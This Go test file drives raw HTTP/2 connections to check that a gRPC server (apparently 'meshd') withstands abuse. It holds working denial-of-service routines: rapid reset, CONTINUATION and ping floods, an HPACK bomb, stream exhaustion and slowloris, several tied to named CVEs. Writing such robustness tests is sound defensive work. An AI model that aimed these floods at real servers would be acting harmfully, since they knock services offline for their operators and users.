package test

import (
	"bufio"
	"bytes"
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"net"
	"sort"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// rawH2 is a hand-driven HTTP/2 client connection: it writes exactly the
// frames a test asks for, however malformed, and a reader goroutine records
// everything the server answers. grpc-go's client cannot be made to
// misbehave, so abuse tests speak HTTP/2 through this instead.
//
// Writes go through a buffered writer and reach the server on Flush (or when
// the buffer fills), so a flood costs the test one syscall per buffer, not
// per frame. Write methods may be called from one goroutine at a time; the
// reader only writes SETTINGS acknowledgements, under the same lock.
type rawH2 struct {
	nc    net.Conn
	start time.Time

	wmu  sync.Mutex // guards bw, fr, henc, hbuf
	bw   *bufio.Writer
	fr   *http2.Framer
	henc *hpack.Encoder
	hbuf bytes.Buffer
	next uint32 // next client stream id
	// spoke is set once the client preface went out; only then does the
	// reader acknowledge the server's later SETTINGS.
	spoke atomic.Bool
	// settings is closed when the server's first SETTINGS arrived;
	// dialRawConn acknowledges those, the reader later ones.
	settings     chan struct{}
	settingsOnce sync.Once

	mu   sync.Mutex // guards res
	res  rawResult
	done chan struct{} // closed when the reader has seen the connection end
	// changed gets a token after each frame the reader recorded, so that
	// a waiter can look at Result again (capacity 1: tokens coalesce).
	changed chan struct{}
}

// rawResult is what the server did on one raw connection.
type rawResult struct {
	Frames   map[http2.FrameType]int
	Resets   map[http2.ErrCode]int // RST_STREAM frames received, by code
	Statuses map[string]int        // grpc-status values in response headers/trailers
	Message  string                // the first grpc-message
	// GoAway is the first GOAWAY received, nil if none.
	GoAway *rawGoAway
	// Settings are the server's first SETTINGS values.
	Settings map[http2.SettingID]uint32
	// Ended is true once the connection is closed (EOF or reset); EndedAt
	// is then the time since dial, and EndErr the reader's error.
	Ended   bool
	EndedAt time.Duration
	EndErr  error
	// Bytes is every byte received, when the connection did not speak
	// HTTP/2 back (kept for diagnostics, capped).
	Bytes []byte
}

type rawGoAway struct {
	Code         http2.ErrCode
	LastStreamID uint32
	Debug        string
	At           time.Duration
}

func (g *rawGoAway) String() string {
	if g == nil {
		return "no GOAWAY"
	}
	return fmt.Sprintf("GOAWAY %s last_stream=%d debug=%q at %s", g.Code, g.LastStreamID, g.Debug, g.At.Round(time.Millisecond))
}

// String summarizes the result for test logs.
func (r rawResult) String() string {
	var b strings.Builder
	b.WriteString(r.GoAway.String())
	if len(r.Resets) > 0 {
		fmt.Fprintf(&b, "; RST_STREAM %v", sortedCounts(r.Resets))
	}
	if len(r.Statuses) > 0 {
		fmt.Fprintf(&b, "; grpc-status %v (first message %q)", r.Statuses, r.Message)
	}
	if r.Ended {
		fmt.Fprintf(&b, "; closed at %s", r.EndedAt.Round(time.Millisecond))
	} else {
		b.WriteString("; still open")
	}
	return b.String()
}

func sortedCounts[K ~uint32](m map[K]int) string {
	keys := make([]K, 0, len(m))
	for k := range m {
		keys = append(keys, k)
	}
	sort.Slice(keys, func(i, j int) bool { return keys[i] < keys[j] })
	var parts []string
	for _, k := range keys {
		parts = append(parts, fmt.Sprintf("%v:%d", any(k), m[k]))
	}
	return "{" + strings.Join(parts, " ") + "}"
}

// dialRawTCPConn connects to addr without writing anything; the reader
// goroutine starts at once. The caller closes it.
func dialRawTCPConn(addr string) (*rawH2, error) {
	nc, err := net.DialTimeout("tcp", addr, 5*time.Second)
	if err != nil {
		return nil, err
	}
	c := &rawH2{nc: nc, start: time.Now(), next: 1, done: make(chan struct{}), settings: make(chan struct{}), changed: make(chan struct{}, 1)}
	c.bw = bufio.NewWriterSize(nc, 64<<10)
	c.fr = http2.NewFramer(c.bw, nil)
	c.fr.AllowIllegalWrites = true
	c.henc = hpack.NewEncoder(&c.hbuf)
	c.res = rawResult{Frames: map[http2.FrameType]int{}, Resets: map[http2.ErrCode]int{}, Statuses: map[string]int{}}
	go c.read()
	return c, nil
}

// dialRawConn connects, sends the client preface and an empty SETTINGS
// frame, as every HTTP/2 client must, and waits until it has acknowledged
// the server's SETTINGS: the acknowledgement is then out of the way of
// what the test sends next (it must not land inside a header block). A
// connection the server closes first is returned as it is. The caller
// closes it.
func dialRawConn(addr string) (*rawH2, error) {
	c, err := dialRawTCPConn(addr)
	if err != nil {
		return nil, err
	}
	err = c.Write(func(fr *http2.Framer) error {
		if _, err := c.bw.WriteString(http2.ClientPreface); err != nil {
			return err
		}
		// Under the write lock: an acknowledgement cannot overtake the
		// preface.
		c.spoke.Store(true)
		return fr.WriteSettings()
	})
	if err == nil {
		err = c.Flush()
	}
	if err != nil {
		c.Close()
		return nil, err
	}
	wait := time.NewTimer(5 * time.Second)
	defer wait.Stop()
	select {
	case <-c.settings:
		if c.Write(func(fr *http2.Framer) error { return fr.WriteSettingsAck() }) == nil {
			_ = c.Flush() // an error here is the server closing: the caller sees it
		}
	case <-c.done:
	case <-wait.C:
	}
	return c, nil
}

// read records frames until the connection ends. It decodes header blocks
// (the server's HPACK state must be followed) and acknowledges SETTINGS.
func (c *rawH2) read() {
	defer close(c.done)
	rd := &recordingReader{r: c.nc}
	fr := http2.NewFramer(nil, rd)
	fr.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
	fr.MaxHeaderListSize = 1 << 20
	fr.SetMaxReadFrameSize(1 << 24)
	for {
		f, err := fr.ReadFrame()
		if err != nil {
			var se http2.StreamError
			if errors.As(err, &se) {
				continue
			}
			c.mu.Lock()
			c.res.Ended, c.res.EndedAt, c.res.EndErr = true, time.Since(c.start), err
			if c.res.Frames[http2.FrameSettings] == 0 {
				c.res.Bytes = rd.kept
			}
			c.mu.Unlock()
			return
		}
		c.mu.Lock()
		c.res.Frames[f.Header().Type]++
		switch f := f.(type) {
		case *http2.GoAwayFrame:
			if c.res.GoAway == nil {
				c.res.GoAway = &rawGoAway{Code: f.ErrCode, LastStreamID: f.LastStreamID, Debug: string(f.DebugData()), At: time.Since(c.start)}
				// Stop sending, as a client that heard the GOAWAY would:
				// the server then sees EOF and closes at once instead of
				// waiting out its drain; the close is still observed.
				if tc, ok := c.nc.(*net.TCPConn); ok {
					_ = tc.CloseWrite()
				}
			}
		case *http2.RSTStreamFrame:
			c.res.Resets[f.ErrCode]++
		case *http2.MetaHeadersFrame:
			if s := f.PseudoValue("status"); s != "" && s != "200" {
				c.res.Statuses["http:"+s]++
			}
			for _, hf := range f.RegularFields() {
				if hf.Name == "grpc-status" {
					c.res.Statuses[hf.Value]++
				}
				if hf.Name == "grpc-message" && c.res.Message == "" {
					c.res.Message = hf.Value
				}
			}
		case *http2.SettingsFrame:
			if !f.IsAck() {
				first := c.res.Settings == nil
				if first {
					c.res.Settings = map[http2.SettingID]uint32{}
					_ = f.ForeachSetting(func(s http2.Setting) error { c.res.Settings[s.ID] = s.Val; return nil })
				}
				c.mu.Unlock()
				if first {
					c.settingsOnce.Do(func() { close(c.settings) })
				} else if c.spoke.Load() {
					// A write error means the connection is going away;
					// the next ReadFrame sees it.
					_ = c.Write(func(fr *http2.Framer) error { return fr.WriteSettingsAck() })
					_ = c.Flush()
				}
				c.notify()
				continue
			}
		}
		c.mu.Unlock()
		c.notify()
	}
}

// notify tells a waiter that the result changed.
func (c *rawH2) notify() {
	select {
	case c.changed <- struct{}{}:
	default:
	}
}

// recordingReader keeps the first bytes read, to show what a server that
// did not answer in HTTP/2 said.
type recordingReader struct {
	r    net.Conn
	kept []byte
}

func (r *recordingReader) Read(p []byte) (int, error) {
	n, err := r.r.Read(p)
	if len(r.kept) < 4096 {
		r.kept = append(r.kept, p[:min(n, 4096-len(r.kept))]...)
	}
	return n, err
}

// Write runs f with the framer under the write lock. Frames are buffered;
// Flush sends them.
func (c *rawH2) Write(f func(fr *http2.Framer) error) error {
	c.wmu.Lock()
	defer c.wmu.Unlock()
	return f(c.fr)
}

// WriteRaw queues raw bytes.
func (c *rawH2) WriteRaw(p []byte) error {
	c.wmu.Lock()
	defer c.wmu.Unlock()
	_, err := c.bw.Write(p)
	return err
}

// Flush sends what is buffered, waiting at most 5s for the server to take
// it.
func (c *rawH2) Flush() error { return c.FlushBy(time.Now().Add(5 * time.Second)) }

// FlushBy sends what is buffered, giving up at deadline: a server that
// stops reading (throttling a flood) must not hold an attack past its
// phase.
func (c *rawH2) FlushBy(deadline time.Time) error {
	c.wmu.Lock()
	defer c.wmu.Unlock()
	c.nc.SetWriteDeadline(deadline)
	return c.bw.Flush()
}

// Streams is how many streams the connection opened.
func (c *rawH2) Streams() int {
	c.wmu.Lock()
	defer c.wmu.Unlock()
	return int(c.next-1) / 2
}

// headerBlock HPACK-encodes a gRPC request for path plus extra fields. It
// must be written (in order with other blocks) since it changes the
// encoder's dynamic table. The caller holds wmu.
func (c *rawH2) headerBlock(path string, extra ...hpack.HeaderField) []byte {
	c.hbuf.Reset()
	for _, f := range []hpack.HeaderField{
		{Name: ":method", Value: "POST"},
		{Name: ":scheme", Value: "http"},
		{Name: ":path", Value: path},
		{Name: ":authority", Value: "meshd.test"},
		{Name: "content-type", Value: "application/grpc"},
		{Name: "te", Value: "trailers"},
	} {
		_ = c.henc.WriteField(f) // writes to a bytes.Buffer cannot fail
	}
	for _, f := range extra {
		_ = c.henc.WriteField(f)
	}
	return bytes.Clone(c.hbuf.Bytes())
}

// OpenStream queues HEADERS for a new gRPC call on path and returns its
// stream id. endStream half-closes at once (a call with no request
// message).
func (c *rawH2) OpenStream(path string, endStream bool, extra ...hpack.HeaderField) (uint32, error) {
	c.wmu.Lock()
	defer c.wmu.Unlock()
	id := c.next
	c.next += 2
	return id, c.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: c.headerBlock(path, extra...), EndStream: endStream, EndHeaders: true})
}

// grpcMessage frames payload as one uncompressed gRPC message.
func grpcMessage(payload []byte) []byte {
	b := make([]byte, 5+len(payload))
	binary.BigEndian.PutUint32(b[1:5], uint32(len(payload)))
	copy(b[5:], payload)
	return b
}

// Result returns a copy of what was recorded so far.
func (c *rawH2) Result() rawResult {
	c.mu.Lock()
	defer c.mu.Unlock()
	r := c.res
	r.Frames = clone(r.Frames)
	r.Resets = clone(r.Resets)
	r.Statuses = clone(r.Statuses)
	if r.GoAway != nil {
		g := *r.GoAway
		r.GoAway = &g
	}
	return r
}

func clone[K comparable, V any](m map[K]V) map[K]V {
	out := make(map[K]V, len(m))
	for k, v := range m {
		out[k] = v
	}
	return out
}

// WaitEnd waits up to d for the server to close the connection and
// returns the result either way.
func (c *rawH2) WaitEnd(d time.Duration) rawResult {
	t := time.NewTimer(d)
	defer t.Stop()
	select {
	case <-c.done:
	case <-t.C:
	}
	return c.Result()
}

// Done is closed when the connection has ended.
func (c *rawH2) Done() <-chan struct{} { return c.done }

// Close closes the connection and waits for the reader.
func (c *rawH2) Close() {
	c.nc.Close()
	<-c.done
}

// The attacks. Each runs one misbehaving connection against addr until ctx
// ends, the server closes the connection, or the attack's own frame budget
// is spent (every flood is bounded in count as well as time). It returns
// the connection so the caller can read what the server answered.

const (
	methodEmpty       = "/grpc.testing.TestService/EmptyCall"
	methodStreamInput = "/grpc.testing.TestService/StreamingInputCall"
	// floodBatch frames are buffered between flushes.
	floodBatch = 64
	// floodMax bounds the frames one flooding connection sends.
	floodMax = 200_000
)

type attackFunc func(ctx context.Context, addr string, opt attackOpts) (*rawH2, error)

// attackOpts are the listener limits an attack needs to know, and when it
// may stop waiting.
type attackOpts struct {
	maxStreams        int // the listener's max_concurrent_streams
	maxHeaderListSize int // the listener's max_header_list_size
	// answered, when set, says that meshd's answer is complete: an attack
	// that waits for the answer (or holds its connection) returns as soon
	// as it holds, rather than when ctx ends. Nil: wait for ctx, the end
	// of the connection or the attack's own bound.
	answered func(rawResult) bool
}

// flood writes frames produced by one(i) in batches until ctx ends, a write
// fails (the server closed the connection) or floodMax frames are sent.
func flood(ctx context.Context, c *rawH2, one func(fr *http2.Framer, i int) error) {
	deadline, ok := ctx.Deadline()
	if !ok {
		deadline = time.Now().Add(5 * time.Second)
	}
	for i := 0; i < floodMax && ctx.Err() == nil; {
		err := c.Write(func(fr *http2.Framer) error {
			for j := 0; j < floodBatch; j, i = j+1, i+1 {
				if err := one(fr, i); err != nil {
					return err
				}
			}
			return nil
		})
		if err != nil || c.FlushBy(deadline) != nil {
			return
		}
		select {
		case <-c.Done():
			return
		default:
		}
	}
}

// rapidReset opens streams and cancels each at once (CVE-2023-44487).
func rapidReset(ctx context.Context, addr string, _ attackOpts) (*rawH2, error) {
	c, err := dialRawConn(addr)
	if err != nil {
		return nil, err
	}
	flood(ctx, c, func(fr *http2.Framer, _ int) error {
		id := c.next
		c.next += 2
		if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: c.headerBlock(methodEmpty), EndStream: true, EndHeaders: true}); err != nil {
			return err
		}
		return fr.WriteRSTStream(id, http2.ErrCodeCancel)
	})
	return c, nil
}

func pingFlood(ctx context.Context, addr string, _ attackOpts) (*rawH2, error) {
	c, err := dialRawConn(addr)
	if err != nil {
		return nil, err
	}
	flood(ctx, c, func(fr *http2.Framer, i int) error {
		return fr.WritePing(false, [8]byte{byte(i >> 8), byte(i)})
	})
	return c, nil
}

func settingsFlood(ctx context.Context, addr string, _ attackOpts) (*rawH2, error) {
	c, err := dialRawConn(addr)
	if err != nil {
		return nil, err
	}
	flood(ctx, c, func(fr *http2.Framer, _ int) error {
		return fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65535})
	})
	return c, nil
}

// emptyDataFlood opens a call and sends empty DATA frames on it without
// ever ending it (CVE-2019-9518).
func emptyDataFlood(ctx context.Context, addr string, _ attackOpts) (*rawH2, error) {
	c, err := dialRawConn(addr)
	if err != nil {
		return nil, err
	}
	id, err := c.OpenStream(methodStreamInput, false)
	if err != nil {
		return c, nil
	}
	flood(ctx, c, func(fr *http2.Framer, _ int) error { return fr.WriteData(id, false, nil) })
	return c, nil
}

// windowUpdateFlood sends connection WINDOW_UPDATEs of 1 byte (they add up
// to far below the 2^31-1 limit: the server has no protocol reason to
// object).
func windowUpdateFlood(ctx context.Context, addr string, _ attackOpts) (*rawH2, error) {
	c, err := dialRawConn(addr)
	if err != nil {
		return nil, err
	}
	flood(ctx, c, func(fr *http2.Framer, _ int) error { return fr.WriteWindowUpdate(0, 1) })
	return c, nil
}

// sensitiveFields HPACK-encodes n never-indexed fields of size bytes each,
// so the block leaves the dynamic table alone and may be sent or not.
func sensitiveFields(n, size int, tag string) []byte {
	var b bytes.Buffer
	enc := hpack.NewEncoder(&b)
	v := strings.Repeat("v", size)
	for i := 0; i < n; i++ {
		_ = enc.WriteField(hpack.HeaderField{Name: fmt.Sprintf("x-%s-%d", tag, i), Value: v, Sensitive: true})
	}
	return b.Bytes()
}

// continuationFlood starts a request and never ends its header block:
// CONTINUATION frames of fresh header fields follow until the server
// objects (CVE-2024-27316, CVE-2023-45288).
func continuationFlood(ctx context.Context, addr string, _ attackOpts) (*rawH2, error) {
	c, err := dialRawConn(addr)
	if err != nil {
		return nil, err
	}
	frag := sensitiveFields(4, 4000, "cont") // ~16 KB, one frame
	var id uint32
	err = c.Write(func(fr *http2.Framer) error {
		id = c.next
		c.next += 2
		return fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: c.headerBlock(methodEmpty), EndStream: true})
	})
	if err != nil {
		return c, nil
	}
	flood(ctx, c, func(fr *http2.Framer, _ int) error { return fr.WriteContinuation(id, false, frag) })
	return c, nil
}

// emptyContinuationFlood is continuationFlood with empty fragments, which a
// size limit on the header list never sees.
func emptyContinuationFlood(ctx context.Context, addr string, _ attackOpts) (*rawH2, error) {
	c, err := dialRawConn(addr)
	if err != nil {
		return nil, err
	}
	var id uint32
	err = c.Write(func(fr *http2.Framer) error {
		id = c.next
		c.next += 2
		return fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: c.headerBlock(methodEmpty), EndStream: true})
	})
	if err != nil {
		return c, nil
	}
	flood(ctx, c, func(fr *http2.Framer, _ int) error { return fr.WriteContinuation(id, false, nil) })
	return c, nil
}

// oversizedHeaders sends one complete request whose header list is twice
// the listener's limit, then waits for the answer.
func oversizedHeaders(ctx context.Context, addr string, opt attackOpts) (*rawH2, error) {
	c, err := dialRawConn(addr)
	if err != nil {
		return nil, err
	}
	extra := sensitiveFields(2*opt.maxHeaderListSize/4000+1, 4000, "big")
	err = c.Write(func(fr *http2.Framer) error {
		id := c.next
		c.next += 2
		block := append(c.headerBlock(methodEmpty), extra...)
		const chunk = 16 << 10
		first := block[:chunk]
		block = block[chunk:]
		if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: first, EndStream: true}); err != nil {
			return err
		}
		for len(block) > 0 {
			n := min(chunk, len(block))
			if err := fr.WriteContinuation(id, n == len(block), block[:n]); err != nil {
				return err
			}
			block = block[n:]
		}
		return nil
	})
	if err == nil {
		_ = c.Flush()
	}
	waitCtx(ctx, c, opt, 2*time.Second)
	return c, nil
}

// oversizedIndexedHeaders sends a small header block that decodes to a
// list far over the limit: one field added to the dynamic table, then
// referenced by its one-byte index thousands of times (an HPACK bomb).
// The connection stays usable: the stream alone is refused.
func oversizedIndexedHeaders(ctx context.Context, addr string, opt attackOpts) (*rawH2, error) {
	c, err := dialRawConn(addr)
	if err != nil {
		return nil, err
	}
	err = c.Write(func(fr *http2.Framer) error {
		id := c.next
		c.next += 2
		block := c.headerBlock(methodEmpty, hpack.HeaderField{Name: "x-bomb", Value: strings.Repeat("b", 1000)})
		// The field just added is dynamic-table entry 62: indexed
		// representation 0x80|62.
		reps := 2*opt.maxHeaderListSize/1000 + 1
		block = append(block, bytes.Repeat([]byte{0x80 | 62}, reps)...)
		return fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: true, EndHeaders: true})
	})
	if err == nil {
		_ = c.Flush()
	}
	waitCtx(ctx, c, opt, 2*time.Second)
	return c, nil
}

// tooManyStreams opens 50 more streams than the listener advertises and
// holds them open (calls waiting for a request message).
func tooManyStreams(ctx context.Context, addr string, opt attackOpts) (*rawH2, error) {
	c, err := dialRawConn(addr)
	if err != nil {
		return nil, err
	}
	for i := 0; i < opt.maxStreams+50; i++ {
		if _, err := c.OpenStream(methodStreamInput, false); err != nil {
			return c, nil
		}
	}
	if c.Flush() != nil {
		return c, nil
	}
	// Hold the streams (calls waiting at the backend) for the phase.
	waitCtx(ctx, c, opt, time.Minute)
	return c, nil
}

// garbage sends bytes that are not HTTP/2 at all.
func garbage(ctx context.Context, addr string, opt attackOpts) (*rawH2, error) {
	c, err := dialRawTCPConn(addr)
	if err != nil {
		return nil, err
	}
	junk := bytes.Repeat([]byte{0xde, 0xad, 0xbe, 0xef, 0x00, 0xff, 0x13, 0x37}, 512)
	if c.WriteRaw(junk) == nil {
		_ = c.Flush()
	}
	waitCtx(ctx, c, opt, 2*time.Second)
	return c, nil
}

// http1 speaks HTTP/1.1 to the gRPC port.
func http1(ctx context.Context, addr string, opt attackOpts) (*rawH2, error) {
	c, err := dialRawTCPConn(addr)
	if err != nil {
		return nil, err
	}
	req := "POST " + methodEmpty + " HTTP/1.1\r\nHost: meshd.test\r\nContent-Type: application/grpc\r\nTE: trailers\r\nContent-Length: 5\r\n\r\n\x00\x00\x00\x00\x00"
	if c.WriteRaw([]byte(req)) == nil {
		_ = c.Flush()
	}
	waitCtx(ctx, c, opt, 2*time.Second)
	return c, nil
}

// prefaceThenJunk sends a valid preface and SETTINGS, then junk whose
// first three bytes read as a frame length far over any frame size limit.
func prefaceThenJunk(ctx context.Context, addr string, opt attackOpts) (*rawH2, error) {
	c, err := dialRawConn(addr)
	if err != nil {
		return nil, err
	}
	if c.WriteRaw(bytes.Repeat([]byte("junk!"), 1000)) == nil {
		_ = c.Flush()
	}
	waitCtx(ctx, c, opt, 2*time.Second)
	return c, nil
}

// slowloris sends the client preface one byte a second.
func slowloris(ctx context.Context, addr string, _ attackOpts) (*rawH2, error) {
	c, err := dialRawTCPConn(addr)
	if err != nil {
		return nil, err
	}
	tick := time.NewTicker(time.Second)
	defer tick.Stop()
	for i := 0; i < len(http2.ClientPreface); i++ {
		if c.WriteRaw([]byte{http2.ClientPreface[i]}) != nil || c.Flush() != nil {
			break
		}
		select {
		case <-ctx.Done():
			return c, nil
		case <-c.Done():
			return c, nil
		case <-tick.C:
		}
	}
	return c, nil
}

// waitCtx waits until c ends, ctx ends, d passes or opt.answered holds.
func waitCtx(ctx context.Context, c *rawH2, opt attackOpts, d time.Duration) {
	t := time.NewTimer(d)
	defer t.Stop()
	for opt.answered == nil || !opt.answered(c.Result()) {
		select {
		case <-ctx.Done():
			return
		case <-c.Done():
			return
		case <-t.C:
			return
		case <-c.changed:
		}
	}
}
